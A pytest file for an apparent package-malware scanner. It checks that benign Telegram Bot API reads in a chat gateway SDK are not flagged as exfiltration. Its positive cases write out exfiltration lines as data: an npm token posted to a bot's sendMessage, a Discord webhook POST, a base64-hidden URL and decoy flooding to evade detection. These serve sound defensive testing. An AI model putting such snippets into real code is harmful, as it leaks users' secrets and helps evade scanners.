"""False positives of a sweep over the newest prereleases of popular names (decision 0107).

Each case is our own minimal sample of a construct met in a well-known release (named in the
test's docstring), not its code; each benign case is paired with the technique put back where it
runs, which must still be found.
"""

from __future__ import annotations

import base64
from pathlib import Path

import pytest

from helpers import heuristic_found as _found
from helpers import heuristic_package as _package

# A chat gateway's SDK: it checks whether the Slack bot token is configured, and its Telegram
# client asks the Bot API which chat an @name is, with the bot token the user configured.
_GATEWAY = """function slackConfigured(account) {
  return Boolean(account.botToken) || Boolean(process.env.SLACK_BOT_TOKEN?.trim());
}

async function fetchTelegramChatId(params) {
  const url = `https://api.telegram.org/bot${params.token}/getChat?chat_id=${encodeURIComponent(params.chatId)}`;
  const res = await fetch(url);
  if (!res.ok) return null;
  const data = await res.json();
  return data.ok ? String(data.result.id) : null;
}

module.exports = { slackConfigured, fetchTelegramChatId };
"""


def test_a_bot_api_read_is_no_collection_point(tmp_path: Path) -> None:
    """openclaw@2026.2.22-1 ``dist/plugin-sdk/index.js`` (an AI-agent chat gateway, no install
    script) read GH-EXFIL-WEBHOOK high: its Telegram client's
    ``api.telegram.org/bot${params.token}/getChat?chat_id=…`` in a file that also reads
    ``process.env.SLACK_BOT_TOKEN`` (is Slack configured?). A ``get…`` method of the Bot API
    reads the bot's own data; nothing it is given reaches a chat the bot's owner reads."""
    assert "GH-EXFIL-WEBHOOK" not in _found(_package(tmp_path, _GATEWAY))


@pytest.mark.parametrize(
    "method",
    ["getMe`", "getUpdates?offset=1`", "GetChat?chat_id=1`", "getFile?file_id=${id}`"],
)
def test_other_bot_api_reads_are_no_collection_point(tmp_path: Path, method: str) -> None:
    """The Bot API's other reads (its method names are case-insensitive), also at install."""
    code = _GATEWAY.replace("getChat?chat_id=${encodeURIComponent(params.chatId)}`", method)
    assert "GH-EXFIL-WEBHOOK" not in _found(_package(tmp_path, code, install=True))


_HINT = """async function noteUserIdHelp(prompter) {
  await prompter.note([
    "1) DM your bot, then read from.id in the logs",
    "2) Or call https://api.telegram.org/bot<bot_token>/getUpdates and read message.from.id",
  ].join("\\n"), "Telegram user id");
}
"""


def test_a_bot_api_read_in_help_text_is_no_collection_point(tmp_path: Path) -> None:
    """openclaw@2026.2.22-1 ``dist/plugin-sdk/index.js`` again: once its client's ``getChat`` was
    no destination, its help line "Or call https://api.telegram.org/bot<bot_token>/getUpdates"
    (a placeholder for the token) read GH-EXFIL-WEBHOOK high in the same file."""
    code = _GATEWAY.replace("module.exports", _HINT + "module.exports")
    assert "GH-EXFIL-WEBHOOK" not in _found(_package(tmp_path, code))


@pytest.mark.parametrize(
    "send",
    [
        # a message or a document posted to the bot's chat
        "fetch(`https://api.telegram.org/bot${T}/sendMessage?chat_id=1&text=${process.env.NPM_TOKEN}`);",
        "fetch(`https://api.telegram.org/bot${T}/SENDDOCUMENT`, { method: 'POST', body: f });",
        "https.get('https://api.telegram.org/bot123456:AAbc-d_e/sendMessage?text=' + d);",
        # the method put together at run time: not known to be a read
        "fetch('https://api.telegram.org/bot' + T + '/' + method, { body: d });",
        "const help = 'call https://api.telegram.org/bot<bot_token>/sendMessage?text=hi';",
        "fetch(`https://api.telegram.org/bot${T}/${method}`, { body: d });",
        # a read's URL hidden in an encoded literal
        "fetch(atob('"
        + base64.b64encode(b"https://api.telegram.org/bot1:x/getMe").decode()
        + "'));",
        # a Discord webhook beside the read
        "fetch('https://discord.com/api/webhooks/1/abc', { method: 'POST', body: d });",
    ],
)
def test_a_post_beside_the_bot_api_read_is_still_found(tmp_path: Path, send: str) -> None:
    """The same file with data posted to the bot's chat (any send method, in any case), a method
    chosen at run time, a read hidden in base64, or another collection host: high as before."""
    code = _GATEWAY.replace("module.exports", send + "\nmodule.exports")
    assert _found(_package(tmp_path, code)).get("GH-EXFIL-WEBHOOK") == "high"


def test_many_bot_api_reads_hide_no_post(tmp_path: Path) -> None:
    """Past ``MAX_HOSTS`` reads, the first counts: decoys hide nothing."""
    decoys = "".join(
        f"const u{i} = `https://api.telegram.org/bot${{T}}/getMe?n={i}`;\n" for i in range(220)
    )
    code = decoys + "fetch(`https://api.telegram.org/bot${T}/sendMessage?text=${d}`);\n"
    assert _found(_package(tmp_path, code, install=True)).get("GH-EXFIL-WEBHOOK") == "high"
